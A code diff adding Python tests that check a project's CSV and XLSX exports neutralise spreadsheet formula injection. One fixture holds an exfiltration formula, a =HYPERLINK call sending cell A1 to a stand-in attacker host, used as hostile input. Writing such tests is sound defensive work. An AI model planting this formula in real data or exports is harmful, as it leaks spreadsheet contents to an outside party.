@@ -11,6 +11,8 @@ from samskap.models import Task
 from samskap.models.enums import Priority, TaskStatus
 from tests.factories import (
     API,
+    make_goal,
+    make_indicator,
     make_involvement,
     make_person,
     make_programme,
@@ -203,3 +205,73 @@ class TestExportAccess:
         observer = await accounts.role(mine, "observer")
         rows = read_csv(await observer.get(f"{API}/tasks", params={"format": "csv"}))
         assert [row["title"] for row in rows] == ["Min"]
+
+
+class TestFormulaInjection:
+    """A text cell one user wrote must not run as a formula in another user's spreadsheet."""
+
+    HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
+
+    async def formulas(self, client) -> dict:
+        programme = await make_programme(client)
+        await make_person(client, programme, name=self.HYPERLINK)
+        project = await make_project(client, programme)
+        await make_task(client, project, title="+1")
+        await make_task(client, project, title="-åpen")
+        await make_task(client, project, title="@SUM(A1)")
+        await make_task(client, project, title="Vanleg = tekst", due_on="2018-09-06")
+        goal = await make_goal(client, programme, kind="effect")
+        await make_indicator(
+            client, goal, name="Sjukefråvær", target_value=-2.5, target_on="2020-01-01"
+        )
+        return programme
+
+    async def test_csv_puts_an_apostrophe_before_formula_text(self, client):
+        await self.formulas(client)
+        [person] = read_csv(await client.get(f"{API}/people", params={"format": "csv"}))
+        assert person["name"] == "'" + self.HYPERLINK
+        tasks = read_csv(await client.get(f"{API}/tasks", params={"format": "csv"}))
+        assert sorted(row["title"] for row in tasks) == sorted(
+            ["'+1", "'-åpen", "'@SUM(A1)", "Vanleg = tekst"]
+        )
+        [plain] = [row for row in tasks if row["title"] == "Vanleg = tekst"]
+        assert plain["due_on"] == "2018-09-06"
+        assert {row["description"] for row in tasks} == {""}
+
+    async def test_csv_leaves_negative_numbers_alone(self, client):
+        await self.formulas(client)
+        [indicator] = read_csv(await client.get(f"{API}/indicators", params={"format": "csv"}))
+        assert indicator["target_value"] == "-2.5"
+        assert indicator["name"] == "Sjukefråvær"
+
+    async def test_tab_and_carriage_return_at_the_start_are_guarded(self):
+        from samskap.kit.export import csv_safe
+
+        assert csv_safe("\tx") == "'\tx"
+        assert csv_safe("\rx") == "'\rx"
+        assert csv_safe("x=1") == "x=1"
+        assert csv_safe(-3) == -3
+        assert csv_safe(-0.5) == -0.5
+
+    async def test_xlsx_writes_formula_text_as_string_cells(self, client):
+        await self.formulas(client)
+        for path, column, expected in (
+            ("people", "name", {self.HYPERLINK}),
+            ("tasks", "title", {"+1", "-åpen", "@SUM(A1)", "Vanleg = tekst"}),
+        ):
+            r = await client.get(f"{API}/{path}", params={"format": "xlsx"})
+            sheet = load_workbook(io.BytesIO(r.content)).active
+            header = [c.value for c in sheet[1]]
+            cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
+            assert {c.value for c in cells} == expected
+            assert {c.data_type for c in cells} == {"s"}
+            assert b"<f>" not in r.content and b"<x:f>" not in r.content
+
+    async def test_xlsx_keeps_negative_numbers_as_numbers(self, client):
+        await self.formulas(client)
+        r = await client.get(f"{API}/indicators", params={"format": "xlsx"})
+        sheet = load_workbook(io.BytesIO(r.content)).active
+        header = [c.value for c in sheet[1]]
+        target = sheet.cell(row=2, column=header.index("target_value") + 1)
+        assert target.value == -2.5
+        assert target.data_type == "n"
